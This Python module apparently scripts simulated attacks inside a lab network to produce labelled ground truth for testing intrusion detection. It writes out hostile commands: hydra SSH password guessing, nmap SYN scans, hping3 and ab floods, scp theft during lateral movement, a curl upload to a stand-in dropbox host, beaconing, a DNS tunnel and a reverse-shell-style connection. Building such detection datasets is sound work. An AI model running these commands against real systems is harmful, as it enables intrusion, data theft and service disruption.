# SPDX-License-Identifier: MIT
"""attacks.py - the attacks, and for each what truth.csv says of it.

Who attacks is an office machine with a person at it (or, the guesser, an Internet host). The
targets are chosen so that address, port and time tell an attack from that person's own work; for
names in DNS the name does. An attack returns False if its program did not run: then it is not in
the truth.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass

from lab import HERE, Lab

CALL_HOME_IP, DROPBOX_IP, OPERATOR_IP = "203.0.113.66", "192.0.2.99", "203.0.113.67"
GAME_IP, SHOP_IP = "203.0.113.150", "203.0.113.20"
TUNNEL_DOMAIN = "status-relay.example"
BEACON_EVERY_S, BEACON_JITTER = 5.0, 0.3
UPLOAD_BYTES = 30_000_000
PASSWORDS, PASSWORDS_INSIDE = 330, 80
SYNS, SYNS_PER_S = 700, 70
REQUESTS, REQUESTS_AT_ONCE = 250, 10
TUNNEL_BYTES = 18_000
# Servers where c16 has no business: files, wiki, build; the consoles of intranet and mail.
LATERAL_IPS = ["10.20.1.22", "10.20.1.41", "10.20.1.42", "10.20.1.80", "10.20.1.25"]


def ran(status: int | None) -> bool:
    """Whether a program did its work, or was ended in the middle of it."""
    return status in (0, None)


def call_home(lab: Lab) -> bool:
    """By name in TLS and HTTP, but without a DNS lookup: one beat is exactly one connection."""
    rng = lab.rng("beacon")
    host = f"-k --resolve static-sync.example.net:443:{CALL_HOME_IP} -A sync/2.1"
    beats = 0
    while True:
        page = rng.choice([3, 3, 3, 3, 4])
        beats += ran(lab.curl("c15", f"{host} https://static-sync.example.net/p{page}"))
        if not lab.sleep(BEACON_EVERY_S * rng.uniform(1 - BEACON_JITTER, 1 + BEACON_JITTER)):
            return beats > 0


def guess_passwords(lab: Lab, host: str, server: str, count: int) -> bool:
    """None is right: the account's password is random and nobody knows it."""
    rng = lab.rng("passwords", host)
    words = ["summer", "admin", "office", "backup"]
    path = lab.work / f"passwords-{host}"
    guesses = [f"{rng.choice(words)}{rng.randrange(10**6)}\n" for _ in range(count)]
    path.write_text("".join(guesses))
    # -w: seconds to wait when the server hangs up after too many tries (32 by default).
    return ran(lab.run(host, f"hydra -I -l backup -P {path} -t 4 -w 3 ssh://{server}", 600))


def upload(lab: Lab) -> bool:
    path = lab.work / "archive"
    path.write_bytes(lab.rng("archive").randbytes(UPLOAD_BYTES))
    return ran(lab.curl("c18", f"-k --limit-rate 1500k -T {path} https://{DROPBOX_IP}/put/archive"))


def scan(lab: Lab, ports: str, target: str, per_second: int) -> bool:
    fixed = "nmap -sS -Pn -n --max-retries 0"
    return ran(lab.run("c21", f"{fixed} --max-rate {per_second} -p {ports} {target}"))


def flood_with_syns(lab: Lab) -> bool:
    """SYNs from a new port each, at a machine's pace; the victim answers, nobody finishes."""
    pace = f"-i u{1_000_000 // SYNS_PER_S} -c {SYNS}"
    status = lab.run("c14", f"hping3 -q -S -p 80 {pace} {GAME_IP}")
    return ran(status) or status == 1  # 1: some were not answered


def flood_with_requests(lab: Lab) -> bool:
    """HTTP requests on a connection each, some at once; pauses keep it moderate."""
    lots = 0
    for _ in range(REQUESTS // REQUESTS_AT_ONCE):
        each = f"ab -q -n {REQUESTS_AT_ONCE} -c {REQUESTS_AT_ONCE // 2} -H 'Host: shop.example.com'"
        lots += ran(lab.run("c20", f"{each} http://{SHOP_IP}/p5"))
        lab.sleep(0.4)
    return lots > 0


def move_laterally(lab: Lab) -> bool:
    """With c16's key: look around on servers that c16 never spoke to, take a file, fetch a page."""
    rng = lab.rng("lateral")
    pause_s = 0.03 * (lab.end - lab.learn_end)
    logins = 0
    for address in LATERAL_IPS:
        look = f"id; ls -la; ps ax; sleep {rng.uniform(1, 4):.2f}; uname -a"
        logins += ran(lab.ssh("c16", address, look, limit_s=20))
        if rng.random() < 0.5:
            copy = f"{lab.ssh_options()} ana@{address}:notes.txt {lab.work}/taken"
            lab.run("c16", f"scp {copy}", limit_s=20)
        if address in ("10.20.1.41", "10.20.1.42"):
            lab.curl("c16", f"http://{address}:8080/p{rng.randrange(60)}")
        lab.sleep(rng.uniform(0.5, 1.5) * pause_s)
    return logins > 0


def tunnel(lab: Lab) -> bool:
    limit_s = 0.25 * (lab.end - lab.learn_end)
    options = f"--seed {lab.seed} --bytes {TUNNEL_BYTES} --resolver 10.20.1.53 {TUNNEL_DOMAIN}"
    return ran(lab.run("c12", f"python3 {HERE}/covert.py tunnel-client {options}", limit_s))


def hold_a_shell(lab: Lab) -> bool:
    """One connection to the operator until the end: keepalives, and now and then an order."""
    return ran(lab.run("c19", f"python3 {HERE}/covert.py shell-client {OPERATOR_IP}", 10**6))


@dataclass
class Episode:
    """One row of truth.csv, and how to bring it about."""

    kind: str
    src: str
    dst: str
    dst_port: str
    meaning: str
    from_s: float  # after the end of the learning part
    act: Callable[[Lab], bool]
    name: str = ""  # only flows that ask for a name in this domain
    start: float = 0.0
    end: float = 0.0
    happened: bool = False

    def play(self, lab: Lab) -> None:
        """Attack, and write down when it really began and ended."""
        if not lab.sleep_until(lab.learn_end + self.from_s):
            return
        self.start = lab.now()
        self.happened = self.act(lab)
        self.end = lab.now()
        verdict = (
            f"{self.end - self.start:.0f} s" if self.happened else "did not run, not in truth.csv"
        )
        print(f"people: {self.kind}: {self.src} to {self.dst}, {verdict}")

    def row(self) -> list[str]:
        times = [f"{self.start:.3f}", f"{self.end:.3f}"]
        return [self.kind, self.src, self.dst, self.dst_port, *times, self.meaning, self.name]


HEAD = ["kind", "src", "dst", "dst_port", "start", "end", "meaning", "name"]


def forwarded(tunnelled: Episode) -> Episode:
    """The office's resolver passes the tunnel's queries on: a consequence, at the same time."""
    asked = Episode("dns_tunnel_forwarded", "10.20.1.53", "198.51.100.53", "53",
                    "the office's resolver passes the tunnel's queries on",
                    tunnelled.from_s, tunnelled.act, tunnelled.name)  # fmt: skip
    asked.start, asked.end = tunnelled.start, tunnelled.end
    asked.happened = tunnelled.happened
    return asked


def episodes(lab: Lab) -> list[Episode]:
    span = lab.end - lab.learn_end
    return [
        Episode("beacon", "10.20.0.15", CALL_HOME_IP, "443",
                "HTTPS request every 5 s +-30 %", 5, call_home),
        Episode("long_connection", "10.20.0.19", OPERATOR_IP, "4444",
                "one TCP connection held open to the end, as a reverse shell", 8, hold_a_shell),
        Episode("scan", "10.20.0.21", "10.20.1.0/24", "22;445;3389",
                "nmap SYN scan of three ports on a /24", 0.12 * span,
                lambda lab: scan(lab, "22,445,3389", "10.20.1.0/24", 40)),
        Episode("lateral", "10.20.0.16", ";".join(LATERAL_IPS), "22;8080",
                "SSH with a stolen key to servers this client never used, and their pages",
                0.20 * span, move_laterally),
        Episode("flood", "10.20.0.14", GAME_IP, "80",
                f"SYN flood, {SYNS_PER_S} a second", 0.34 * span, flood_with_syns),
        Episode("scan", "10.20.0.21", "10.20.1.80", "1-1000",
                "nmap SYN scan of one host", 0.42 * span,
                lambda lab: scan(lab, "1-1000", "10.20.1.80", 100)),
        Episode("dns_tunnel", "10.20.0.12", "10.20.1.53", "53",
                "data in query names through the office's resolver", 0.48 * span, tunnel,
                TUNNEL_DOMAIN),
        Episode("upload", "10.20.0.18", DROPBOX_IP, "443",
                "30 MB PUT to a host nobody else uses", 0.55 * span, upload),
        Episode("flood", "10.20.0.20", SHOP_IP, "80",
                "HTTP requests on a connection each", 0.62 * span, flood_with_requests),
        Episode("password_guessing", "198.51.100.77", "10.20.1.22", "22",
                "hydra guesses one account's SSH password", 0.66 * span,
                lambda lab: guess_passwords(lab, "guesser", "10.20.1.22", PASSWORDS)),
        Episode("password_guessing", "10.20.0.22", "10.20.1.23", "22",
                "hydra guesses one account's SSH password, from inside", 0.70 * span,
                lambda lab: guess_passwords(lab, "c22", "10.20.1.23", PASSWORDS_INSIDE)),
    ]  # fmt: skip
